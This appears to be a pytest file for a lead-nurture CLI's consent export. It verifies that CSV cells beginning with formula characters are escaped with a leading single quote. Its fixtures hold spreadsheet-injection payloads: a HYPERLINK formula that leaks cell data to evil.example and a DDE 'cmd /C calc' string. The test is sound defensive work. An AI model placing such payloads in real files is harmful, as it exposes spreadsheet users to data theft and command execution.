"""`nurture consent export --csv` is safe to open in a spreadsheet: a cell from a web form or a lead
that a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written as text, with
OWASP's leading single quote."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from sqlalchemy import update
from typer.testing import CliRunner

from delivery_helpers import CONSENT, add_lead, cancel_plan, queue_message
from nurture.cli import app
from nurture.clock import clock
from nurture.db import session_scope
from nurture.models import Message

NOW = datetime(2026, 12, 1, 15, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NAME = "=1+2"
WORDING = "=cmd|' /C calc'!A0 I agree to receive texts. Reply STOP to opt out."
runner = CliRunner()


def test_a_formula_in_a_consent_wording_or_a_first_name_is_exported_as_text(db_url):
    clock.freeze(NOW)
    lead_id = add_lead(NOW, first_name=NAME, sms_consent=CONSENT | {"text": WORDING})
    cancel_plan(lead_id, NOW)
    sent = queue_message(lead_id, NOW, state="sent")
    with session_scope() as s:  # a text whose template opens with the lead's first name
        s.execute(update(Message).where(Message.id == sent).values(
            body=f"{NAME}, your sale date is close. {FORMULA}", to_address="+13055550142", sent_at=NOW,
            provider_id="@SM1"))
    r = runner.invoke(app, ["consent", "export", str(lead_id), "--csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    header, body = rows[0], rows[1:]
    assert len(body) == 2
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    consent, text = (dict(zip(header, row, strict=True)) for row in body)
    assert consent["text"] == "'" + WORDING
    assert text["text"] == f"'{NAME}, your sale date is close. {FORMULA}"
    assert text["to"] == "'+13055550142" and text["provider_id"] == "'@SM1"
    assert consent["ip"] == "203.0.113.7"  # what starts with none of them is as it was
